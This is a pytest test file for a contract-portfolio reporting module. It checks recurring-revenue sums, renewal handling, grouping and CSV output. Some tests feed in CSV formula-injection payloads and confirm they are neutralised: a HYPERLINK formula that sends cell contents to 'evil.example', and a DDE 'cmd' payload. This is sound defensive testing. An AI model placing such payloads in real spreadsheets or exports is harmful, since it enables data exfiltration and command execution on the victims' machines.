"""Pure portfolio summaries and CSV rendering."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal as D

import pytest

from halo_contracts.config import Settings
from halo_contracts.domain.models import Contract, RecurringItem
from halo_contracts.domain.reports import GROUP_BY, contract_arr, csv_cell, render_csv, summarize, summary_csv

MONTHS_OF = Settings().code_maps.months_of
TODAY = date(2026, 6, 15)


def c(cid: int, client: int, *, type_: str = "Recurring", status: str = "Active", value: str = "0",
      frequency: str | None = "Monthly", start: date | None = None, end: date | None = None,
      previous: int | None = None) -> Contract:
    return Contract(id=cid, client_id=client, client_name=f"Client {client}", type=type_, status=status,
                    value=D(value), billing_frequency=frequency, start_date=start, end_date=end,
                    previous_contract_id=previous)


def line(qty: str, price: str, frequency: str | None = None, *, start: date | None = None,
         end: date | None = None, inactive: bool = False) -> RecurringItem:
    return RecurringItem(quantity=D(qty), unit_price=D(price), billing_frequency=frequency, start_date=start,
                         end_date=end, inactive=inactive)


def test_arr_from_lines_each_at_its_own_frequency():
    contract = c(1, 1, value="999")
    lines = [line("10", "45.00"), line("1", "225.00", "Quarterly"), line("2", "120.00", "Annual"),
             line("5", "10.00", end=date(2026, 1, 31)), line("5", "10.00", inactive=True),
             line("5", "10.00", start=date(2026, 7, 1))]
    arr = contract_arr(contract, lines, MONTHS_OF, TODAY)
    # 450*12 + 225*4 + 240*1; the ended, the inactive and the not yet started line do not bill today
    assert (arr.amount, arr.source) == (D("6540.00"), "lines")


def test_arr_falls_back_to_value_for_recurring_contracts_only():
    assert contract_arr(c(1, 1, value="300", frequency="Quarterly"), [], MONTHS_OF, TODAY).amount == D("1200")
    assert contract_arr(c(2, 1, value="300", frequency=None), [], MONTHS_OF, TODAY).amount == D("3600")
    prepaid = contract_arr(c(3, 1, type_="Prepaid Hours", value="2500"), [], MONTHS_OF, TODAY)
    assert (prepaid.amount, prepaid.source) == (D(0), "none")


def test_by_client_highest_first_with_totals():
    contracts = [c(1, 1, value="100"), c(2, 2, value="500"), c(3, 2, value="50", type_="Project"),
                 c(4, 3, value="200"), c(5, 3, value="200", status="Expired")]
    lines = {1: [line("1", "100")], 2: [line("1", "500")]}
    s = summarize(contracts, lines, "client", MONTHS_OF, TODAY)
    assert [(g.client_id, g.contracts, g.total_value, g.annual_recurring) for g in s.groups] == [
        (2, 2, D("550.00"), D("6000.00")),
        (3, 1, D("200.00"), D("2400.00")),  # no lines: value x 12; the Expired one is not counted
        (1, 1, D("100.00"), D("1200.00")),
    ]
    assert (s.contracts, s.total_value, s.annual_recurring) == (4, D("850.00"), D("9600.00"))
    assert (s.from_lines, s.from_value, s.not_current) == (2, 1, 1)


@pytest.mark.parametrize("group_by", GROUP_BY)
def test_every_grouping_counts_every_contract(group_by):
    contracts = [c(1, 1, value="10"), c(2, 2, status="Pending", frequency="Annual", value="20"),
                 c(3, 2, type_="Warranty", frequency=None)]
    s = summarize(contracts, {}, group_by, MONTHS_OF, TODAY, scope="all")
    assert sum(g.contracts for g in s.groups) == 3
    assert sorted(i for g in s.groups for i in g.contract_ids) == [1, 2, 3]
    current = summarize(contracts, {}, group_by, MONTHS_OF, TODAY)
    assert sorted(i for g in current.groups for i in g.contract_ids) == [1, 3] and current.not_current == 1


# ---- only what bills today: status, dates, renewals --------------------------------------------

# TODAY is 15 June 2026.
OLD_ENDED = c(10, 1, value="500", start=date(2025, 6, 1), end=date(2026, 5, 31))  # still "Active": not updated
RENEWAL_STARTED = c(11, 1, value="550", start=date(2026, 6, 1), end=date(2027, 5, 31), previous=10)
ENDS_THIS_MONTH = c(20, 2, value="300", frequency="Quarterly", start=date(2025, 7, 1), end=date(2026, 6, 30))
RENEWAL_NEXT_MONTH = c(21, 2, value="330", frequency="Quarterly", start=date(2026, 7, 1), previous=20)
OLD_NO_END = c(30, 3, value="180", start=date(2024, 1, 1))  # its renewal took over; nobody set its end date
RENEWAL_OF_NO_END = c(31, 3, value="200", start=date(2026, 6, 1), previous=30)
NOT_BILLABLE = [c(40, 4, value="1665", status="Cancelled"), c(41, 4, value="100", status="Expired",
                                                              end=date(2026, 12, 31)),
                c(42, 4, value="200", status="On Hold"), c(43, 4, value="300", status="Pending")]
BOOK = [OLD_ENDED, RENEWAL_STARTED, ENDS_THIS_MONTH, RENEWAL_NEXT_MONTH, OLD_NO_END, RENEWAL_OF_NO_END,
        *NOT_BILLABLE]
BOOK_LINES = {10: [line("1", "500")], 11: [line("1", "550")], 20: [line("1", "300")], 21: [line("1", "330")],
              30: [line("2", "90")], 31: [line("2", "100")], 40: [line("1", "1665")], 41: [line("1", "100")],
              42: [line("1", "200")], 43: [line("1", "300")]}


@pytest.mark.parametrize("contract", [*NOT_BILLABLE, OLD_ENDED, RENEWAL_NEXT_MONTH], ids=lambda k: str(k.id))
def test_no_recurring_revenue_when_not_billing_today(contract):
    arr = contract_arr(contract, BOOK_LINES[contract.id], MONTHS_OF, TODAY)
    assert (arr.amount, arr.source) == (D(0), "none")
    # the value fallback too
    assert contract_arr(contract, [], MONTHS_OF, TODAY).amount == D(0)


def test_value_by_client_never_counts_a_contract_with_its_renewal():
    s = summarize(BOOK, BOOK_LINES, "client", MONTHS_OF, TODAY)
    # client 1: only the renewal, 550 x 12; client 3: only the renewal, 200 x 12; client 2: the
    # quarterly contract until its renewal starts, 300 x 4; client 4: nothing billable
    assert [(g.client_id, g.contract_ids, g.total_value, g.annual_recurring) for g in s.groups] == [
        (1, [11], D("550.00"), D("6600.00")),
        (3, [31], D("200.00"), D("2400.00")),
        (2, [20], D("300.00"), D("1200.00")),
    ]
    assert (s.scope, s.contracts, s.total_value, s.annual_recurring, s.not_current) == (
        "current", 3, D("1050.00"), D("10200.00"), 7)


def test_scope_all_counts_every_contract_with_no_revenue_for_those_not_billing():
    s = summarize(BOOK, BOOK_LINES, "client", MONTHS_OF, TODAY, scope="all")
    assert [(g.client_id, g.contracts, g.total_value, g.annual_recurring) for g in s.groups] == [
        (1, 2, D("1050.00"), D("6600.00")),
        (3, 2, D("380.00"), D("2400.00")),
        (2, 2, D("630.00"), D("1200.00")),
        (4, 4, D("2265.00"), D("0.00")),  # 1665 + 100 + 200 + 300
    ]
    assert (s.contracts, s.total_value, s.annual_recurring, s.not_current) == (10, D("4325.00"), D("10200.00"), 7)
    by_status = summarize(BOOK, BOOK_LINES, "status", MONTHS_OF, TODAY, scope="all")
    assert {g.label: (g.contracts, g.annual_recurring) for g in by_status.groups} == {
        "Active": (6, D("10200.00")), "Cancelled": (1, D("0.00")), "Expired": (1, D("0.00")),
        "On Hold": (1, D("0.00")), "Pending": (1, D("0.00"))}


def test_status_filter_is_applied_after_renewals_are_recognised():
    s = summarize(BOOK, BOOK_LINES, "status", MONTHS_OF, TODAY, status="active")
    assert [(g.label, g.contract_ids, g.annual_recurring) for g in s.groups] == [
        ("Active", [11, 20, 31], D("10200.00"))]
    assert s.not_current == 3  # 10 (ended), 21 (not started), 30 (renewed)
    expired = summarize(BOOK, BOOK_LINES, "status", MONTHS_OF, TODAY, status="Expired")
    assert (expired.contracts, expired.not_current) == (0, 1)


def test_unknown_billing_period_is_counted_monthly_and_warned():
    contracts = [c(1, 1, value="100", frequency="code 7"), c(2, 1, frequency="Annual"),
                 c(3, 2, value="50", frequency="code 7", status="Cancelled")]
    lines = {2: [line("1", "1200.00", "code 9"), line("1", "600.00")]}
    s = summarize(contracts, lines, "client", MONTHS_OF, TODAY)
    # 100 x 12 (code 7 as monthly) + 1200 x 12 (code 9 as monthly) + 600 x 1 (annual)
    assert s.annual_recurring == D("16200.00")
    assert s.warnings == [
        "billing period 'code 7' is not in HALO_BILLING_PERIOD_CODES; treated as monthly - add it (contract 1)",
        "billing period 'code 9' is not in HALO_BILLING_PERIOD_CODES; treated as monthly - add it (contract 2)"]
    assert summarize([c(1, 1, value="100")], {}, "client", MONTHS_OF, TODAY).warnings == []


def test_unknown_grouping_is_refused():
    with pytest.raises(ValueError):
        summarize([], {}, "colour", MONTHS_OF, TODAY)


def test_summary_csv_parses_back_to_the_same_numbers():
    contracts = [c(1, 1, value="100.10"), c(2, 2, value="1234.56"), c(3, 2, value="0.05")]
    contracts[0].client_name = 'O\'Brien & Sons, "Plumbing"'
    s = summarize(contracts, {1: [line("3", "33.33")]}, "client", MONTHS_OF, TODAY)
    rows = list(csv.DictReader(io.StringIO(summary_csv(s))))
    assert [r["group"] for r in rows] == [g.label for g in s.groups] + ["TOTAL"]
    for row, g in zip(rows, s.groups, strict=False):
        assert (D(row["total_value"]), D(row["annual_recurring_revenue"]), int(row["contracts"])) == (
            g.total_value, g.annual_recurring, g.contracts)
    assert D(rows[-1]["annual_recurring_revenue"]) == s.annual_recurring == sum(
        (D(r["annual_recurring_revenue"]) for r in rows[:-1]), D(0))


def test_render_csv_cells():
    text = render_csv(["a", "b", "c", "d"], [[D("1.005"), date(2026, 1, 2), [3, 4], None]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b", "c", "d"], ["1.01", "2026-01-02", "3 4", ""]]


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)", "\tline", "\rline"])
def test_text_that_starts_like_a_formula_is_made_inert(text):
    assert csv_cell(text) == "'" + text
    rows = list(csv.reader(io.StringIO(render_csv(["ref"], [[text]]))))
    assert rows[1] == ["'" + text]


def test_numbers_are_never_prefixed_and_parse_back():
    text = render_csv(["a", "b", "c", "d", "e"], [[D("-12.50"), -5, [-101, 7], "ACME - Leeds", "O'Brien"]])
    assert list(csv.reader(io.StringIO(text)))[1] == ["-12.50", "-5", "-101 7", "ACME - Leeds", "O'Brien"]


def test_summary_csv_with_a_hostile_client_name():
    contracts = [c(1, 1, value="100"), c(2, 2, value="-30")]
    contracts[0].client_name = '=HYPERLINK("http://evil.example","x")'
    contracts[1].client_name = "@Acme"
    s = summarize(contracts, {}, "client", MONTHS_OF, TODAY)
    rows = list(csv.DictReader(io.StringIO(summary_csv(s))))
    assert [r["group"] for r in rows] == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'@Acme", "TOTAL"]
    assert [r["total_value"] for r in rows] == ["100.00", "-30.00", "70.00"]
